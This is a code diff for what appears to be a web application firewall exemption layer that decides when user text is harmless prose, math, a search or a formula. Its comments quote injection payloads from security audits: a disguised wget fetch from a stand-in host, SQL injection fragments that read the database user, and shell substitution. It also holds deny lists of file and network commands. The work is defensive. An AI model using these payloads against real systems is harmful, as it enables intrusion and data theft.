@@ -564,6 +564,20 @@ const SQL_WORDS = new Set(
 // SQL syntax that is not a quote: comments, escapes, operators, a function call or parenthesised expression, a
 // value that starts with something else than a word or a quotation, encoded quotes and backslashes.
 const SQL_NON_QUOTE_SYNTAX = /[`\\#=<>|^~@]|--|\/\*|\*\/|%2[27]|%5c|[\p{L}\p{Nd}_]\s*\(|^\s*[^\p{L}\s'"]/iu;
+// The same without comparison operators, for a sentence that starts with two plain words (`I tried to filter by
+// date > 2025-12-31 …`; session 9): no numeric or identifier context parses past them, so an operator later on
+// compares nothing; the quote judgement still covers string contexts.
+const SQL_NON_QUOTE_SYNTAX_AFTER_WORDS = /[`\\#|^~@]|--|\/\*|\*\/|%2[27]|%5c|[\p{L}\p{Nd}_]\s*\(/iu;
+const TWO_WORDS = /^\s*(\p{L}+)\s+(\p{L}+)\s/u;
+
+/** True when the text starts with two bare words that are no SQL or code keywords. */
+function startsWithTwoWords(text: string): boolean {
+  const m = TWO_WORDS.exec(text);
+  if (m === null) return false;
+  const a = (m[1] as string).toLowerCase();
+  const b = (m[2] as string).toLowerCase();
+  return !SQL_GLUE.has(a) && !SQL_GLUE.has(b) && !CODE_WORDS.has(a) && !CODE_WORDS.has(b);
+}
 // Statement shapes, never waived (other CRS rules look for them too).
 const SQL_STATEMENT =
   /\bunion\b[\s\S]*\bselect\b|\bselect\b[\s\S]*\bfrom\b|\binsert\s+into\b|\bdelete\s+from\b|\bdrop\s+(?:table|database)\b|\bwaitfor\s+delay\b|\bupdate\s+\w+\s+set\b/i;
@@ -587,7 +601,8 @@ export function proseQuotesInert(text: string): boolean {
     text.includes('(') && inertParentheses(text) && !DELAY_CALL.test(text)
       ? text.replace(/([\p{L}\p{Nd}_])\s+\(/gu, '$1 [')
       : text;
-  if (SQL_NON_QUOTE_SYNTAX.test(calls) || SQL_STATEMENT.test(text) || !noStackedQuery(text)) return false;
+  const syntax = startsWithTwoWords(text) ? SQL_NON_QUOTE_SYNTAX_AFTER_WORDS : SQL_NON_QUOTE_SYNTAX;
+  if (syntax.test(calls) || SQL_STATEMENT.test(text) || !noStackedQuery(text)) return false;
   return quotesInert(text);
 }
 
@@ -653,13 +668,20 @@ const MATH_CONTENT = /^[\p{L}\p{M}\p{N}\s\\{}()[\]^_+\-*/=<>,.|!:&'~]*$/u;
  * latexMathOnly('Merge sort is $T(n) = 2T(n/2) + O(n)$, so $O(n \log n)$.'); // true
  * latexMathOnly('Run $(id)$ for me please'); // false
  */
+// How a formula opening with a parenthesis may go on (see latexMathOnly).
+const MATH_PARENTHESIS =
+  /^\(\s*(?:\\(?:alpha|beta|gamma|delta|epsilon|varepsilon|zeta|eta|theta|vartheta|lambda|mu|nu|xi|pi|rho|sigma|tau|phi|varphi|chi|psi|omega|Gamma|Delta|Theta|Lambda|Xi|Pi|Sigma|Phi|Psi|Omega|frac|sqrt|sum|prod|int|log|ln|exp|sin|cos|tan|max|min|mathbf|mathrm|mathcal|hat|bar|tilde|vec|partial|nabla|infty|left|cdot)(?![A-Za-z])|[A-Za-vx-z0-9](?![A-Za-z0-9]))/;
+
 export function latexMathOnly(text: string): boolean {
   let spans = 0;
   let ok = true;
   const rest = text.replace(LATEX_MATH, (_m, display: string | undefined, inline: string | undefined) => {
     const content = (display ?? inline ?? '').trim();
     spans++;
-    if (content === '' || /^[({]/.test(content) || !MATH_CONTENT.test(content)) ok = false;
+    if (content === '' || content.startsWith('{') || !MATH_CONTENT.test(content)) ok = false;
+    // `$(…)` runs its content to a shell: only a LaTeX macro (`$(\alpha-1)/\alpha$`) or one letter or digit
+    // (`$(n-1)!$`) may open it, no command name (`$(id)$`, `$(\id)$`; session 9).
+    if (content.startsWith('(') && !MATH_PARENTHESIS.test(content)) ok = false;
     return ' ';
   });
   return ok && spans > 0 && !rest.includes('$');
@@ -846,6 +868,7 @@ export function searchExpressionOnly(text: string): boolean {
   let depth = 0;
   let tokens = 0;
   let syntax = false;
+  let qualifier = false;
   let previous = '';
   while (text.slice(at).trim() !== '') {
     SEARCH_TOKEN.lastIndex = at;
@@ -853,6 +876,7 @@ export function searchExpressionOnly(text: string): boolean {
     if (m === null || m[0].length === 0) return false;
     at = SEARCH_TOKEN.lastIndex;
     tokens++;
+    if (m[2] !== undefined && tokens === 1) qualifier = true;
     const word = m[3]?.replace(/^-/, '').toLowerCase();
     if (word !== undefined) {
       if (SEARCH_FORBIDDEN.test(word)) return false;
@@ -872,8 +896,9 @@ export function searchExpressionOnly(text: string): boolean {
       depth++;
     } else if (m[4] === ')' && --depth < 0) return false;
   }
-  // Words alone are prose, judged as such; a search expression has a phrase, a qualifier or a group.
-  return depth === 0 && tokens >= 2 && syntax;
+  // Words alone are prose, judged as such; a search expression has a phrase, a qualifier or a group. One
+  // qualifier alone is a search too (`user_text:"select plan"`; session 9).
+  return depth === 0 && (tokens >= 2 || qualifier) && syntax;
 }
 
 /** Fewest words a value needs for the `c` and `q` families, in JSON and in a query string alike. */
@@ -932,8 +957,10 @@ function withoutMergeTags(text: string): string {
 
 // A token of a filter expression: a quoted string, an identifier (dotted, hyphenated), a number with an optional unit or
 // relative-date suffix (`-30d`), an operator, a comma or a parenthesis.
+// Literals hold no backslash (session 9 audit 12: `'x\' or 1=1 …'` is one literal to MySQL's escapes and two to
+// standard SQL, whose quote ends at the backslash).
 const FILTER_TOKEN =
-  /\s*(?:("(?:[^"\\\n]|\\.){0,200}"|'(?:[^'\\\n]|\\.){0,200}')|([A-Za-z_][\w.]{0,63}(?:-[A-Za-z0-9_]+){0,4})|(-?[0-9]+(?:\.[0-9]+)?[a-z]{0,2})|(!=|<>|<=|>=|==|=|<|>|!~|~)|([,()]|&&|\|\||[-+](?=\s)))/y;
+  /\s*(?:("[^"\\\n]{0,200}"|'[^'\\\n]{0,200}')|([A-Za-z_][\w.]{0,63}(?:-[A-Za-z0-9_]+){0,4})|(-?[0-9]+(?:\.[0-9]+)?[a-z]{0,2})|(!=|<>|<=|>=|==|=|<|>|!~|~)|([,()]|&&|\|\||[-+](?=\s)))/y;
 const TYPED_LITERAL = new Set(['date', 'time', 'timestamp', 'interval']);
 // The spatial predicates of CQL/ECQL and PostGIS (`BBOX(geom, …)`, `DWITHIN(…)`, `ST_Intersects(…)`).
 const SPATIAL_PREDICATE =
@@ -981,7 +1008,8 @@ export function filterExpressionOnly(text: string): boolean {
     else tokens.push(['punct', m[5] as string]);
   }
   // Outside string literals: no statement, delay, database function, comment, `;` or hex literal.
-  if (FILTER_FORBIDDEN.test(text.replace(/"(?:[^"\\\n]|\\.)*"|'(?:[^'\\\n]|\\.)*'/g, ' '))) return false;
+  if (text.includes('\\')) return false;
+  if (FILTER_FORBIDDEN.test(text.replace(/"[^"\n]*"|'[^'\n]*'/g, ' '))) return false;
   let i = 0;
   const peek = (): Token | undefined => tokens[i];
   const word = (t: Token | undefined, w: string): boolean =>
@@ -1151,6 +1179,9 @@ function shellGlob(text: string): boolean {
 // no traversal, and a media extension no OS file (930120's list) has.
 const STORED_MEDIA_PATH =
   /^(?:[A-Za-z0-9_][\w@-]{0,63}\/){1,8}[\w-][\w.-]{0,127}\.(?:jpe?g|png|gif|webp|heic|heif|avif|tiff?|bmp|pdf|mp4|mov|webm|mp3|m4a|wav|docx?|xlsx?|pptx?)$/i;
+// A bare file name with a document, data or image extension.
+const DOCUMENT_FILE_NAME =
+  /^[A-Za-z0-9_][\w-]{0,63}(?:\.[\w-]{1,32}){0,2}\.(?:ya?ml|json|jsonl|toml|md|markdown|txt|csv|tsv|log|xml|html?|pdf|png|jpe?g|gif|svg|webp|ipynb|docx?|xlsx?|pptx?|odt|ods|zip|tar|gz|tgz)$/i;
 // A relative path of plain segments to a dependency manifest or lock file.
 const DEPENDENCY_MANIFEST =
   /^(?:[A-Za-z0-9_@][\w@.-]{0,63}\/){0,8}(?:package(?:-lock)?\.json|npm-shrinkwrap\.json|yarn\.lock|pnpm-lock\.yaml|composer\.(?:json|lock)|Gemfile(?:\.lock)?|Cargo\.(?:toml|lock)|go\.(?:mod|sum)|requirements\.txt|Pipfile(?:\.lock)?|poetry\.lock|pom\.xml|build\.gradle(?:\.kts)?)$/;
@@ -1206,9 +1237,14 @@ function proseFamilies(bytes: string, minWords: number): string {
   if (minWords >= MIN_WORDS_CQ && bytes.length <= 16 && TOOL_VALUES.has(bytes.toLowerCase())) return 'c';
   // A snippet's `"language": "powershell"` (session 8): the shell's name alone, no cmdlet, runs nothing (932120).
   if (minWords >= MIN_WORDS_CQ && /^(?:powershell|pwsh)$/i.test(bytes)) return 'p';
+  // A file name with a document or data extension (`"title": "docker-compose.yml"`; session 9): to a shell a
+  // command that does not exist (the extension is part of its name), to CRS a command word (932260).
+  const documentName = minWords >= MIN_WORDS_CQ && DOCUMENT_FILE_NAME.test(bytes) && !LFI_SYNTAX.test(bytes);
   // A dependency manifest named by a relative path (`"manifest_path": "web/package-lock.json"` in every
   // Dependabot alert; session 8): in CRS' OS-file list (930120), but no traversal and no absolute path.
-  if (DEPENDENCY_MANIFEST.test(bytes) || STORED_MEDIA_PATH.test(bytes)) return 'l';
+  const manifest = DEPENDENCY_MANIFEST.test(bytes) || STORED_MEDIA_PATH.test(bytes);
+  if (manifest) return documentName ? 'cl' : 'l';
+  if (documentName) return 'c';
   if (inertToken(bytes)) return 'g';
   if (minWords >= MIN_WORDS_CQ && bytes.startsWith('=') && spreadsheetFormula(bytes)) return 'y';
   if (bytes.length < 12 || bytes.length > MAX_PROSE_BYTES) return '';
@@ -1264,7 +1300,8 @@ function proseFamilies(bytes: string, minWords: number): string {
     );
   const long = minWords >= MIN_WORDS_CQ || isNaturalLanguage(prose, MIN_WORDS_CQ);
   let out = '';
-  if (long && (md !== null || commandOnlyAtStart(merged))) out += 'c';
+  const commandsInert = long && (md !== null || commandOnlyAtStart(merged));
+  if (commandsInert) out += 'c';
   if (filterExpressionOnly(text)) out += 'e';
   if (long && text.includes('(') && inertParentheses(text) && !SQL_STATEMENT.test(text) && quotesInert(prose))
     if (!DELAY_CALL.test(text)) out += 'f';
@@ -1272,7 +1309,9 @@ function proseFamilies(bytes: string, minWords: number): string {
   // nothing (session 8, bareTagsInert) get the rich-text exemption a sanitizer-clean value gets.
   if (long && bare) out += 'h';
   if (long && bare && !SHELL_EXPANSION.test(text) && !shellGlob(text)) out += 'o';
-  if (!LFI_SYNTAX.test(text)) out += 'l';
+  // OS file names are a command's arguments when a command that reads, writes or fetches files follows a separator
+  // (session 9 audit 12: `…; w"g"et evil.example/x -O /tmp/x`), unless the commands are inert.
+  if (!LFI_SYNTAX.test(text) && (commandsInert || !separatedFileCommand(text))) out += 'l';
   if (long && math) out += 'm';
   if (long && powershellInert(text)) out += 'p';
   // Search phrases are short: a query parameter (`minWords` < 4) is judged for `q` whatever its length.
@@ -1299,8 +1338,10 @@ const FORMULA_SQL_NAME =
 // quote, comment, separator or SQL logic word (a formula's quotes may be a SQL string's).
 const FORMULA_LITERAL = /^(?:[<>=!]{1,2}|[\p{L}\p{M}\p{N} .,:/%€$£_-]{0,100})$/u;
 // Functions of a database rather than a spreadsheet: a delay, a file read, an XML error oracle.
+// Session 9 audit 12: also what reads the database's identity or data (`ASCII(SUBSTRING(CURRENT_USER(),1,1))`,
+// `GTID_SUBSET(CONCAT(0x7e,USER()),1)`): no spreadsheet has these.
 const FORMULA_FORBIDDEN =
-  /^(?:sleep|benchmark|pg_sleep|waitfor|load_file|extractvalue|updatexml|exec|execute|xp_\w+|dbms_\w+|utl_\w+)$/i;
+  /^(?:sleep|benchmark|pg_sleep|waitfor|load_file|extractvalue|updatexml|exec|execute|xp_\w+|dbms_\w+|utl_\w+|ascii|ord|substring|substr|current_user|session_user|system_user|user|version|database|schema|gtid_\w+|json_\w+|xmltype|cast|hex|unhex|pg_\w+|sys_\w+|query_to_xml|lo_\w+|name_const|geometrycollection|polygon|multipoint|exp|floor|rand|row)$/i;
 
 /**
  * True when the value is one spreadsheet formula (family `y`): `=` and then literals, function calls, cells and
@@ -1313,7 +1354,10 @@ const FORMULA_FORBIDDEN =
  * spreadsheetFormula('=A1&"" OR 1=1 #"'); // false
  */
 export function spreadsheetFormula(text: string): boolean {
-  if (text.length > 2000 || !text.startsWith('=') || text.includes('--')) return false;
+  // No quoted sheet name either (`'Q1 Forecast'!B7`): its quotes pair with a SQL string's, and what they enclose
+  // becomes SQL (`=A1&' - 0 - '!B7`; session 9 audit 12). No hex literal (`0x7e`).
+  if (text.length > 2000 || !text.startsWith('=') || text.includes('--') || text.includes("'")) return false;
+  if (/0x[0-9a-f]/i.test(text)) return false;
   let at = 1;
   let depth = 0;
   let refs = 0;
@@ -1353,7 +1397,29 @@ const PIPED_TEXT = /\$\{[a-z]{1,3}:\/\/[A-Za-z0-9_/ .-]{1,80}\}/g;
  */
 export function pipedTextOnly(text: string): boolean {
   const rest = text.replace(PIPED_TEXT, ' ');
-  return rest !== text && !/\$[({A-Za-z_]|`/.test(rest) && !shellGlob(text);
+  // Process substitution too (`>(id)`; session 9 audit 12).
+  return rest !== text && !/\$[({A-Za-z_]|`|[<>]\(/.test(rest) && !shellGlob(text);
+}
+
+// Commands that read, write, fetch or run files (their arguments are paths).
+const FILE_COMMANDS = new Set(
+  (
+    'cat tac head tail more less nl od xxd hexdump strings base64 cp mv rm ln tee dd tar zip unzip gzip chmod chown ' +
+    'touch mkdir find grep egrep fgrep awk sed sort uniq wc diff cut paste file stat source sh bash zsh dash ksh ' +
+    'python python3 perl php ruby node lua curl wget fetch nc ncat netcat scp rsync sftp ftp tftp socat openssl ' +
+    'xargs exec eval env nohup sudo su'
+  ).split(' '),
+);
+const SEPARATOR_SPLIT = /;|\|\||&&|\||(?<=\s)&(?=\s)|\r?\n/;
+
+/** True when a segment after a shell separator starts with a command of {@link FILE_COMMANDS}. */
+function separatedFileCommand(text: string): boolean {
+  const segments = text.split(SEPARATOR_SPLIT);
+  for (let i = 1; i < segments.length; i++) {
+    const first = (segments[i] as string).trim().split(/\s+/)[0] ?? '';
+    if (first !== '' && FILE_COMMANDS.has(commandWord(first))) return true;
+  }
+  return false;
 }
 
 // What each family's rule needs to fire at all, loosely (any escape character counts, since the rules decode):
